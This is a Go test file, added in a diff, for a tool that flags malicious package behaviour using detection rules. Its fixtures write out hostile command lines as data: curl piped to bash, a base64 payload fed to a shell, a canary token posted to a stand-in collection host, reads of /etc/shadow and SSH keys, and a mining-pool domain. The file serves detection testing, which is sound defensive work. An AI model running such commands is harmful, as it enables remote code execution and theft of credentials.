@@ -0,0 +1,206 @@
+package analysis
+
+import (
+	"context"
+	"encoding/json"
+	"log/slog"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/acheong08/hackeurope-spr/internal/aggregate"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func process(configure func(p *aggregate.ProcessSummary)) *aggregate.ProcessSummary {
+	p := &aggregate.ProcessSummary{
+		FileAccess:       map[string]int{},
+		ExecutedCommands: map[string]int{},
+		CommandLines:     map[string]int{},
+		NetworkActivity:  aggregate.NetworkActivity{DNSRecords: map[string]int{}},
+	}
+	configure(p)
+	return p
+}
+
+func TestClassifyRules(t *testing.T) {
+	tests := []struct {
+		name     string
+		stats    *aggregate.DedupedProcessStats
+		rules    []string
+		decisive bool
+	}{
+		{
+			name: "curl piped to shell",
+			stats: &aggregate.DedupedProcessStats{PerProcess: map[string]*aggregate.ProcessSummary{
+				"sh": process(func(p *aggregate.ProcessSummary) { p.CommandLines["sh -c curl -fsSL http://x.example/i | bash"] = 1 }),
+			}},
+			rules:    []string{"pipe-to-shell"},
+			decisive: true,
+		},
+		{
+			name: "base64 payload into a shell",
+			stats: &aggregate.DedupedProcessStats{PerProcess: map[string]*aggregate.ProcessSummary{
+				"sh": process(func(p *aggregate.ProcessSummary) { p.CommandLines["sh -c echo Y3VybCB4 | base64 -d | sh"] = 1 }),
+			}},
+			rules:    []string{"base64-shell"},
+			decisive: true,
+		},
+		{
+			name: "shadow read",
+			stats: &aggregate.DedupedProcessStats{PerProcess: map[string]*aggregate.ProcessSummary{
+				"node": process(func(p *aggregate.ProcessSummary) { p.FileAccess["/etc/shadow"] = 1 }),
+			}},
+			rules:    []string{"credential-file-read"},
+			decisive: true,
+		},
+		{
+			name: "mining pool in an env variant",
+			stats: &aggregate.DedupedProcessStats{
+				PerProcess: map[string]*aggregate.ProcessSummary{},
+				Variants: map[string]*aggregate.DedupedProcessStats{"ru": {PerProcess: map[string]*aggregate.ProcessSummary{
+					"node": process(func(p *aggregate.ProcessSummary) { p.NetworkActivity.DNSRecords["pool.supportxmr.com"] = 2 }),
+				}}},
+			},
+			rules:    []string{"mining-pool"},
+			decisive: true,
+		},
+		{
+			name: "canary token sent by an action",
+			stats: &aggregate.DedupedProcessStats{PerProcess: map[string]*aggregate.ProcessSummary{
+				"node>sh": process(func(p *aggregate.ProcessSummary) {
+					p.CommandLines["sh -c curl -d ghp_sprcanary0a1b2c https://collect.example/t"] = 1
+				}),
+				"node": process(func(p *aggregate.ProcessSummary) {
+					p.NetworkActivity.DNSRecords["ghp-sprcanary0a1b2c.exfil.example"] = 1
+				}),
+			}},
+			rules:    []string{"canary-secret-leak"},
+			decisive: true,
+		},
+		{
+			name: "canary token sent to the GitHub API",
+			stats: &aggregate.DedupedProcessStats{PerProcess: map[string]*aggregate.ProcessSummary{
+				"bash>curl": process(func(p *aggregate.ProcessSummary) {
+					p.CommandLines["curl -H Authorization: token ghp_sprcanary0a1b2c https://api.github.com/repos/o/r"] = 1
+					p.CommandLines["git config http.extraheader AUTHORIZATION: basic ghp_sprcanary0a1b2c"] = 1
+				}),
+			}},
+		},
+		{
+			name: "cpu burn and a raw IP are ambiguous",
+			stats: &aggregate.DedupedProcessStats{
+				ResourceUsage: &aggregate.ResourceUsage{CPUBurn: true, CPUUtilization: 1.9},
+				URLIndicators: []aggregate.URLIndicator{{URL: "http://1.2.3.4/x", Class: aggregate.HostPublicIP}},
+			},
+			rules: []string{"cpu-burn", "raw-ip-download"},
+		},
+		{
+			name: "obscure package phoning home on install",
+			stats: &aggregate.DedupedProcessStats{
+				Signals: &aggregate.PackageSignals{WeeklyDownloads: 3, InstallScript: true},
+				PerProcess: map[string]*aggregate.ProcessSummary{
+					"node": process(func(p *aggregate.ProcessSummary) { p.NetworkActivity.DNSRecords["c2.example"] = 1 }),
+				},
+			},
+			rules: []string{"obscure-install-network"},
+		},
+		{
+			name: "popular package phoning home on install",
+			stats: &aggregate.DedupedProcessStats{
+				Signals: &aggregate.PackageSignals{WeeklyDownloads: 5_000_000, InstallScript: true},
+				PerProcess: map[string]*aggregate.ProcessSummary{
+					"node": process(func(p *aggregate.ProcessSummary) { p.NetworkActivity.DNSRecords["github.com"] = 1 }),
+				},
+			},
+		},
+		{
+			name: "build tool",
+			stats: &aggregate.DedupedProcessStats{PerProcess: map[string]*aggregate.ProcessSummary{
+				"sh": process(func(p *aggregate.ProcessSummary) { p.CommandLines["sh -c node-gyp rebuild"] = 1 }),
+			}},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := ClassifyRules(tt.stats, DefaultRules)
+			var names []string
+			for _, m := range result.Matches {
+				names = append(names, m.Rule)
+			}
+			assert.Equal(t, tt.rules, names)
+			assert.Equal(t, tt.decisive, result.Decisive())
+		})
+	}
+}
+
+func TestClassifyRulesCombinedScore(t *testing.T) {
+	stats := &aggregate.DedupedProcessStats{
+		ResourceUsage: &aggregate.ResourceUsage{CPUBurn: true},
+		URLIndicators: []aggregate.URLIndicator{{URL: "http://1.2.3.4/x", Class: aggregate.HostPublicIP}},
+	}
+	// 1 - (1-0.5)(1-0.4)
+	assert.Equal(t, 0.7, ClassifyRules(stats, DefaultRules).Score)
+	assert.Zero(t, ClassifyRules(stats, nil).Score)
+}
+
+func TestAnalyzePackageDecidedByRules(t *testing.T) {
+	dir := t.TempDir()
+	diff := aggregate.DedupedProcessStats{PerProcess: map[string]*aggregate.ProcessSummary{
+		"node": process(func(p *aggregate.ProcessSummary) { p.FileAccess["/root/.ssh/id_rsa"] = 1 }),
+	}}
+	data, err := json.Marshal(diff)
+	require.NoError(t, err)
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "diff.json"), data, 0o644))
+
+	// No model: a decisive result must not reach the LLM
+	a := &Analyzer{rules: DefaultRules, semaphore: make(chan struct{}, 1), logger: slog.Default()}
+	require.NoError(t, a.analyzePackage(context.Background(), PackageInfo{Name: "evil", Version: "1.0.0", OutputDir: dir}))
+
+	data, err = os.ReadFile(filepath.Join(dir, "ai-analysis.json"))
+	require.NoError(t, err)
+	var saved struct {
+		SecurityAssessment
+		Rules []RuleMatch `json:"rules"`
+	}
+	require.NoError(t, json.Unmarshal(data, &saved))
+	assert.True(t, saved.IsMalicious)
+	assert.Equal(t, 0.9, saved.Confidence)
+	assert.Equal(t, []RuleMatch{{Rule: "credential-file-read", Score: 0.9, Evidence: []string{"/root/.ssh/id_rsa read by node"}}}, saved.Rules)
+}
+
+func TestRulesAnalyzerClears(t *testing.T) {
+	dir := t.TempDir()
+	diff := aggregate.DedupedProcessStats{
+		PerProcess:    map[string]*aggregate.ProcessSummary{"node": process(func(p *aggregate.ProcessSummary) { p.FileAccess["/tmp/build"] = 1 })},
+		URLIndicators: []aggregate.URLIndicator{{URL: "http://1.2.3.4/x", Class: aggregate.HostPublicIP}},
+	}
+	data, err := json.Marshal(diff)
+	require.NoError(t, err)
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "diff.json"), data, 0o644))
+
+	// Below the threshold, the rules-only analyzer clears it instead of asking an LLM
+	a := NewRulesAnalyzer(1)
+	require.NoError(t, a.analyzePackage(context.Background(), PackageInfo{Name: "pkg", Version: "1.0.0", OutputDir: dir}))
+
+	data, err = os.ReadFile(filepath.Join(dir, "ai-analysis.json"))
+	require.NoError(t, err)
+	var saved SecurityAssessment
+	require.NoError(t, json.Unmarshal(data, &saved))
+	assert.False(t, saved.IsMalicious)
+	assert.Equal(t, 0.6, saved.Confidence)
+	assert.Contains(t, saved.Justification, "raw-ip-download")
+	assert.Equal(t, []string{"raw-ip-download: http://1.2.3.4/x"}, saved.Indicators)
+	assert.Zero(t, a.Usage())
+}
+
+func TestRulesetHash(t *testing.T) {
+	assert.Equal(t, RulesetHash(DefaultRules), RulesetHash(DefaultRules))
+	assert.Len(t, RulesetHash(DefaultRules), 64)
+
+	tuned := append([]Rule(nil), DefaultRules...)
+	tuned[0].Score = 0.8
+	assert.NotEqual(t, RulesetHash(DefaultRules), RulesetHash(tuned))
+	assert.NotEqual(t, RulesetHash(DefaultRules), RulesetHash(DefaultRules[1:]))
+}